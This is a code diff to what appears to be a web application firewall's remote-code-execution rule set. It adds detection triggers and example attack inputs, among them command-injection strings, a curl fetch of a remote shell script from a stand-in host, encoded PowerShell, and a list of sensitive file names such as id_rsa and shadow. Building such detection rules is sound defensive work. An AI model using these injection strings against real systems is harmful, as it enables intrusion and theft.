@@ -1,4 +1,4 @@
-import { SHELL } from '../shell.ts';
+import { COMMAND_NAMES, INTERPRETERS, SHELL } from '../shell.ts';
 import { type Rule, SCORE } from '../types.ts';
 
 /** File names of configuration, credentials and kernel interfaces that an upload must not replace. */
@@ -14,6 +14,17 @@ const ALIAS_OPERATOR = /[=+-]/;
 export const RCE_RULES: Rule[] = [
   {
     id: 'rce-command-chain',
+    view: 'shell',
+    operator: 'grammar:shell+phrases:unix-commands,windows-commands',
+    examples: [
+      ';id',
+      '| cat /etc/hosts',
+      '`whoami`',
+      '$(curl http://x.example/a.sh)',
+      '&& ping -c 3 10.0.0.1',
+      ';iwmi -class Win32_process',
+      'time; ansible all -m ping',
+    ],
     prose: true,
     family: 'rce',
     paranoia: 1,
@@ -27,6 +38,18 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-command',
+    view: 'shell',
+    operator: 'phrases:unix-commands,windows-commands',
+    triggers: { firstWords: COMMAND_NAMES },
+    examples: [
+      'whoami',
+      'uname -a',
+      'nslookup example.com',
+      'cat /etc/hosts',
+      'powershell -enc SQBFAFgA',
+      'nohup ifconfig',
+      'timedatectl status',
+    ],
     plain: true,
     family: 'rce',
     paranoia: 1,
@@ -38,6 +61,10 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-shell-syntax',
+    view: 'lower',
+    operator: 'pattern',
+    triggers: { words: INTERPRETERS },
+    examples: ['${IFS}', '$(id)', 'bash -c id', 'echo {a,b}', 'cat<<<x', 'perl -e print'],
     plain: true,
     family: 'rce',
     paranoia: 1,
@@ -49,6 +76,18 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-windows',
+    view: 'lower',
+    operator: 'pattern',
+    triggers: {
+      words: ['for', 'if', 'iex', 'downloadstring', 'downloadfile'],
+      word: /invoke-|start-process|new-object|set-executionpolicy|get-wmiobject|-enc/,
+    },
+    examples: [
+      'for /f %i in (x) do y',
+      'if exist c:\\x del y',
+      'powershell Invoke-WebRequest http://x',
+      'iex (x)',
+    ],
     plain: true,
     family: 'rce',
     paranoia: 1,
@@ -59,6 +98,9 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-windows-env',
+    view: 'lower',
+    operator: 'pattern',
+    examples: ['%SYSTEMROOT%\\system32\\cmd.exe'],
     family: 'rce',
     paranoia: 1,
     score: SCORE.warning,
@@ -67,6 +109,32 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-config-upload',
+    view: 'path',
+    operator: 'pattern',
+    triggers: {
+      words: [
+        'config',
+        'configuration',
+        'settings',
+        'wp-config',
+        'database',
+        'secret',
+        'secrets',
+        'credentials',
+        'parameters',
+        'web',
+        'passwd',
+        'shadow',
+        'mtrr',
+        'authorized_keys',
+        'id_rsa',
+      ],
+      word: /^\.|\.(?:php\d?|ya?ml|json|ini|xml|conf|cfg|env|toml|py|rb|bak|old|orig|save|swp|dist)$/,
+    },
+    examples: [
+      { kind: 'filename', key: 'body:file', value: 'wp-config.php' },
+      { kind: 'filename', key: 'body:file', value: '.htaccess' },
+    ],
     plain: true,
     family: 'rce',
     paranoia: 1,
@@ -80,6 +148,9 @@ export const RCE_RULES: Rule[] = [
   },
   {
     id: 'rce-variable',
+    view: 'lower',
+    operator: 'pattern',
+    examples: ['$HOME/x'],
     family: 'rce',
     paranoia: 2,
     score: SCORE.warning,
